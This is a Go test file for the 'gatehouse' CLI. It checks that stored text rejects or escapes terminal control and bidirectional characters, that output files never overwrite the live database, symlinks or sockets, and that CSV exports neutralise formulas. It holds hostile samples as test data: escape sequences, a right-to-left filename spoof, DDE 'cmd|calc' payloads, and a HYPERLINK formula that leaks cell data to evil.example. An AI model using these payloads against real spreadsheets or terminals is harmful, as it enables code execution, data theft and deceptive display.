package cli_test

import (
	"bytes"
	"encoding/csv"
	"gatehouse/domain"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode"

	bolt "go.etcd.io/bbolt"
)

// hostile are the terminal instructions a value could carry.
var hostile = map[string]string{
	"ESC": "\x1b",
	"CSI": "\x1b[2J",
	"OSC": "\x1b]0;pwned\x07",
	"CR":  "\r",
	"BEL": "\x07",
	"DEL": "\x7f",
	"C1":  "\u009b",
	// bidirectional controls: an override or an isolate reorders what
	// follows on a terminal that lays out right-to-left text
	"RLO": "\u202e",
	"LRI": "\u2066",
	"RLM": "\u200f",
}

// rawControl reports whether s carries a control character other than
// newline and tab: what a terminal would act on.
func rawControl(s string) bool {
	return strings.IndexFunc(s, func(r rune) bool {
		return (unicode.IsControl(r) || domain.BidiControl(r)) && r != '\n' && r != '\t'
	}) >= 0
}

// TestHostileTextRefusedByCLICommands writes every kind of sequence through
// every CLI command that creates stored text, and through the users CSV
// import: each is refused, the field named, the message free of raw
// control characters.
func TestHostileTextRefusedByCLICommands(t *testing.T) {
	h := newHarness(t)
	h.ok("building", "create", "EAST", "--name", "East")
	h.ok("ticket", "create", "--title", "ok", "--building", "EAST")
	dir := t.TempDir()
	cmds := []struct {
		field string
		args  func(v string) []string
	}{
		{"first name", func(v string) []string { return []string{"user", "create", "u1", "--first", v} }},
		{"last name", func(v string) []string { return []string{"user", "create", "u1", "--last", v} }},
		{"email", func(v string) []string { return []string{"user", "create", "u1", "--email", "a" + v + "@example.org"} }},
		{"group name", func(v string) []string { return []string{"group", "create", "G" + v} }},
		{"group description", func(v string) []string { return []string{"group", "create", "G", "--description", v} }},
		{"team name", func(v string) []string { return []string{"team", "create", "T" + v} }},
		{"team description", func(v string) []string { return []string{"team", "create", "T", "--description", v} }},
		{"building code", func(v string) []string { return []string{"building", "create", "B" + v, "--name", "B"} }},
		{"building name", func(v string) []string { return []string{"building", "create", "B", "--name", v} }},
		{"region", func(v string) []string { return []string{"building", "create", "B", "--name", "B", "--region", v} }},
		{"room", func(v string) []string { return []string{"building", "create", "B", "--name", "B", "--rooms", "1" + v} }},
		{"title", func(v string) []string { return []string{"ticket", "create", "--title", v, "--building", "EAST"} }},
		{"description", func(v string) []string {
			return []string{"ticket", "create", "--title", "t", "--building", "EAST", "--description", v}
		}},
		{"thread title", func(v string) []string { return []string{"ticket", "thread", "1", "--title", v} }},
		{"message", func(v string) []string { return []string{"ticket", "thread", "1", "--title", "t", "--text", v} }},
		{"attachment name", func(v string) []string {
			f := filepath.Join(dir, "a"+v+".txt")
			if err := os.WriteFile(f, []byte("x"), 0o600); err != nil {
				t.Fatal(err)
			}
			return []string{"ticket", "attach", "1", f}
		}},
		{"First Name", func(v string) []string {
			f := filepath.Join(dir, "users.csv")
			if err := os.WriteFile(f, []byte(usersFile+"Ann"+v+"Lee,Lee,ann@example.org,ann,,Users\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			return []string{"import", "users", f}
		}},
	}
	for _, c := range cmds {
		for kind, seq := range hostile {
			args := c.args("Evil" + seq + "Value")
			errs := h.fails(args, c.field)
			if rawControl(errs) {
				t.Errorf("%s with %s: stderr carries a raw control character: %q", c.field, kind, errs)
			}
		}
	}
}

// legacyBuilding rewrites the stored building EAST so its name carries
// control characters, as a file written before the store refused them
// would; the store's own methods no longer can.
func legacyBuilding(t *testing.T, h *harness, name string) {
	t.Helper()
	err := h.db.Bolt().Update(func(tx *bolt.Tx) error {
		b := tx.Bucket([]byte("buildings"))
		return b.ForEach(func(k, v []byte) error {
			if !bytes.Contains(v, []byte(`"East"`)) {
				return nil
			}
			return b.Put(k, bytes.Replace(v, []byte(`"East"`), []byte(name), 1))
		})
	})
	if err != nil {
		t.Fatal(err)
	}
}

// legacyTicketTitle rewrites a stored ticket title of seven bytes to an
// OSC window-title sequence and CR of the same length (titles are
// length-prefixed in the binary record).
func legacyTicketTitle(t *testing.T, db interface{ Bolt() *bolt.DB }, title string) {
	t.Helper()
	if len(title) != 7 {
		t.Fatal("the title must be 7 bytes")
	}
	err := db.Bolt().Update(func(tx *bolt.Tx) error {
		b := tx.Bucket([]byte("tickets"))
		return b.ForEach(func(k, v []byte) error {
			if bytes.Contains(v, []byte(title)) {
				return b.Put(k, bytes.Replace(v, []byte(title), []byte("\x1b]0;p\x07\r"), 1))
			}
			return nil
		})
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestLegacyBidiControlsShowEscapedInCLIOutput: a building name stored
// with a right-to-left override before the store refused one reaches the
// terminal escaped (\u202e) in list and show output, so "East\u202egnp.exe"
// cannot read as "Eastexe.png".
func TestLegacyBidiControlsShowEscapedInCLIOutput(t *testing.T) {
	h := newHarness(t)
	h.ok("building", "create", "EAST", "--name", "East")
	legacyBuilding(t, h, `"East\u202egnp.exe\u2066x\u2069\u200f"`)
	for _, args := range [][]string{{"building", "list"}, {"building", "show", "EAST"}} {
		out := h.ok(args...)
		if rawControl(out) {
			t.Errorf("%s: a raw bidirectional control reaches the terminal: %q", strings.Join(args, " "), out)
		}
		if !strings.Contains(out, `East\u202egnp.exe\u2066x\u2069\u200f`) {
			t.Errorf("%s: the name is not shown escaped:\n%s", strings.Join(args, " "), out)
		}
	}
}

// TestLegacyControlCharactersShowEscapedInCLIOutput: text already stored
// with control characters reaches the terminal escaped in list and show
// output; --json keeps the value (JSON escapes it itself).
func TestLegacyControlCharactersShowEscapedInCLIOutput(t *testing.T) {
	h := newHarness(t)
	h.ok("building", "create", "EAST", "--name", "East", "--region", "North")
	h.ok("ticket", "create", "--title", "okTITLE", "--building", "EAST")
	legacyBuilding(t, h, `"East\u001b[2J\u001b]0;pwned\u0007\r\u009bX"`)
	legacyTicketTitle(t, h.db, "okTITLE")
	for _, args := range [][]string{{"building", "list"}, {"building", "show", "EAST"}, {"ticket", "list"}, {"ticket", "show", "1"}} {
		out := h.ok(args...)
		if rawControl(out) {
			t.Errorf("%s: raw control characters reach the terminal: %q", strings.Join(args, " "), out)
		}
		if args[0] == "building" && !strings.Contains(out, `East\x1b[2J\x1b]0;pwned\x07\r\u009bX`) {
			t.Errorf("%s: the name is not shown escaped:\n%s", strings.Join(args, " "), out)
		}
		if args[0] == "ticket" && !strings.Contains(out, `\x1b]0;p\x07`) {
			t.Errorf("%s: the title is not shown escaped:\n%s", strings.Join(args, " "), out)
		}
	}
	out := h.ok("building", "show", "EAST", "--json")
	if !strings.Contains(out, `East\u001b[2J`) {
		t.Errorf("--json changed the stored value: %s", out)
	}
}

// TestOutputFilesNeverReplaceANonRegularFile: export --out, backup, ticket
// save and ticket report refuse a FIFO (standing in for /dev/null, which
// tests do not touch), a symlink to a file elsewhere and a directory, and
// leave each as it was.
func TestOutputFilesNeverReplaceANonRegularFile(t *testing.T) {
	h := newHarness(t)
	h.ok("building", "create", "EAST", "--name", "East")
	h.ok("ticket", "create", "--title", "ok", "--building", "EAST")
	dir := t.TempDir()
	att := filepath.Join(dir, "note.txt")
	if err := os.WriteFile(att, []byte("hello"), 0o600); err != nil {
		t.Fatal(err)
	}
	h.ok("ticket", "attach", "1", att)
	saveQuery(t, h, "all", "status:new")
	secret := filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(secret, []byte("keep"), 0o600); err != nil {
		t.Fatal(err)
	}
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Skipf("no FIFOs: %v", err)
	}
	link := filepath.Join(dir, "link")
	if err := os.Symlink(secret, link); err != nil {
		t.Fatal(err)
	}
	sub := filepath.Join(dir, "sub")
	if err := os.Mkdir(sub, 0o700); err != nil {
		t.Fatal(err)
	}
	for _, target := range []string{fifo, link, sub} {
		before, _ := os.Lstat(target)
		for _, args := range [][]string{
			{"export", "--out", target},
			{"export", "--format", "csv", "--out", target},
			{"backup", target},
			{"ticket", "save", "1", "note.txt", "--out", target},
			{"ticket", "report", "all", "--out", target},
		} {
			h.fails(args, target)
			after, err := os.Lstat(target)
			if err != nil || !os.SameFile(before, after) || after.Mode() != before.Mode() {
				t.Errorf("%s: %s was replaced", strings.Join(args, " "), target)
			}
		}
	}
	if b, _ := os.ReadFile(secret); string(b) != "keep" {
		t.Errorf("the symlink's target was written: %q", b)
	}
}

// TestOutputFilesNeverReplaceTheLiveDataFile: export (JSON and CSV),
// access as-of, ticket report, ticket save and backup refuse the data file
// the command runs on, by device and inode: under its own name, through a
// symlinked directory (a name that compares differently) and by a hard
// link. The refusal names the data file, and the file is the same file
// with the same bytes afterwards. Its mail socket is refused too.
func TestOutputFilesNeverReplaceTheLiveDataFile(t *testing.T) {
	h := newHarness(t)
	h.ok("building", "create", "EAST", "--name", "East")
	h.ok("ticket", "create", "--title", "ok", "--building", "EAST")
	att := filepath.Join(t.TempDir(), "note.txt")
	if err := os.WriteFile(att, []byte("hello"), 0o600); err != nil {
		t.Fatal(err)
	}
	h.ok("ticket", "attach", "1", att)
	saveQuery(t, h, "all", "status:new")
	data := h.db.Path()
	viaLink := filepath.Join(t.TempDir(), "datadir")
	if err := os.Symlink(filepath.Dir(data), viaLink); err != nil {
		t.Fatal(err)
	}
	hard := filepath.Join(filepath.Dir(data), "hardlink.db")
	if err := os.Link(data, hard); err != nil {
		t.Fatal(err)
	}
	content := func() []byte {
		b, err := os.ReadFile(data)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	before, err := os.Stat(data)
	if err != nil {
		t.Fatal(err)
	}
	bytesBefore := content()
	for _, target := range []string{data, filepath.Join(viaLink, filepath.Base(data)), hard} {
		for _, args := range [][]string{
			{"export", "--out", target},
			{"export", "--format", "csv", "--out", target},
			{"access", "as-of", "2099-01-01", "--format", "csv", "--out", target},
			{"access", "as-of", "2099-01-01", "--format", "json", "--out", target},
			{"ticket", "report", "all", "--out", target},
			{"ticket", "save", "1", "note.txt", "--out", target},
			{"backup", target},
		} {
			h.fails(args, target, "the data file this gatehouse has open", "name another file")
			after, err := os.Stat(data)
			if err != nil || !os.SameFile(before, after) {
				t.Fatalf("%s: the data file was replaced", strings.Join(args, " "))
			}
			if !bytes.Equal(content(), bytesBefore) {
				t.Fatalf("%s: the data file changed", strings.Join(args, " "))
			}
		}
	}
	h.okHas([]string{"ticket", "show", "1"}, "ok") // the store still reads its file
	// the mail socket of a running server or console: never replaced
	sock := data + ".mail.sock"
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Skipf("no unix socket at %s: %v", sock, err)
	}
	defer ln.Close()
	for _, args := range [][]string{
		{"export", "--format", "csv", "--out", sock},
		{"access", "as-of", "2099-01-01", "--format", "csv", "--out", sock},
		{"ticket", "report", "all", "--out", sock},
		{"ticket", "save", "1", "note.txt", "--out", sock},
	} {
		h.fails(args, sock)
		if st, err := os.Lstat(sock); err != nil || st.Mode()&os.ModeSocket == 0 {
			t.Errorf("%s: the mail socket was replaced", strings.Join(args, " "))
		}
	}
}

// TestAccessAsOfCSVGuardsEveryCell: a building code typed as a formula
// (codes allow = and |) reaches access as-of's buildings column as text
// ('=…), as every other column's.
func TestAccessAsOfCSVGuardsEveryCell(t *testing.T) {
	h := newHarness(t)
	evil := "=cmd|'/Ccalc'!A0"
	h.ok("building", "create", evil, "--name", "Evil")
	h.ok("user", "create", "kim")
	h.ok("user", "join", "kim", "Technicians")
	h.ok("user", "set", "kim", "--buildings", evil)
	out := filepath.Join(t.TempDir(), "asof.csv")
	h.ok("access", "as-of", time.Now().Format("2006-01-02"), "--format", "csv", "--out", out)
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range rows {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("cell %q starts a formula:\n%s", c, data)
			}
			found = found || c == "'"+evil
		}
	}
	if !found {
		t.Errorf("the building code is not in the file as '%s:\n%s", evil, data)
	}
}

// saveQuery saves a query as the owner (the CLI has no command for it).
func saveQuery(t *testing.T, h *harness, name, q string) {
	t.Helper()
	admin, err := h.db.Session("admin")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := admin.SaveQuery(t.Context(), name, q, ""); err != nil {
		t.Fatal(err)
	}
}

// TestCSVCellsNeverStartAFormula: a user who names themselves
// =HYPERLINK(…) and a ticket titled =cmd are exported and reported as
// text ('=…), and the users export imports back to the same values.
func TestCSVCellsNeverStartAFormula(t *testing.T) {
	h := newHarness(t)
	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	h.ok("user", "create", "eve", "--first", evil, "--last", "@SUM(1+1)", "--email", "eve@example.org")
	admin, err := h.db.Session("admin")
	if err != nil {
		t.Fatal(err)
	}
	eve, err := admin.User(t.Context(), "eve")
	if err != nil {
		t.Fatal(err)
	}
	var phone domain.UserPatch
	if _, err := admin.UpdateUser(t.Context(), eve.User.ID, *phone.SetPhone("+1 555 0100")); err != nil {
		t.Fatal(err)
	}
	h.ok("user", "join", "eve", "Users")
	dir := t.TempDir()
	csvPath := filepath.Join(dir, "users.csv")
	h.ok("export", "--format", "csv", "--out", csvPath)
	data, _ := os.ReadFile(csvPath)
	if !strings.Contains(string(data), `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`) ||
		!strings.Contains(string(data), `'@SUM(1+1)`) || !strings.Contains(string(data), `'+1 555 0100`) {
		t.Fatalf("export cells are not guarded:\n%s", data)
	}
	// eve's row alone: the owner (admin) is in both files
	var keep []string
	for i, l := range strings.SplitAfter(string(data), "\r\n") {
		if i == 0 || strings.Contains(l, "eve@example.org") {
			keep = append(keep, l)
		}
	}
	evePath := filepath.Join(dir, "eve.csv")
	if err := os.WriteFile(evePath, []byte(strings.Join(keep, "")), 0o600); err != nil {
		t.Fatal(err)
	}
	fresh := newHarness(t)
	fresh.ok("import", "users", evePath)
	out := fresh.ok("user", "show", "eve", "--json")
	for _, want := range []string{`"first": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"`, `"last": "@SUM(1+1)"`, `"phone": "+1 555 0100"`} {
		if !strings.Contains(out, want) {
			t.Errorf("round trip lost %s:\n%s", want, out)
		}
	}

	h.ok("building", "create", "EAST", "--name", "East")
	h.ok("ticket", "create", "--title", "=cmd|' /C calc'!A0", "--building", "EAST")
	saveQuery(t, h, "all", "status:new")
	rep := filepath.Join(dir, "report.csv")
	h.ok("ticket", "report", "all", "--out", rep)
	data, _ = os.ReadFile(rep)
	if !strings.Contains(string(data), `'=cmd|' /C calc'!A0`) {
		t.Errorf("report cell is not guarded:\n%s", data)
	}
}
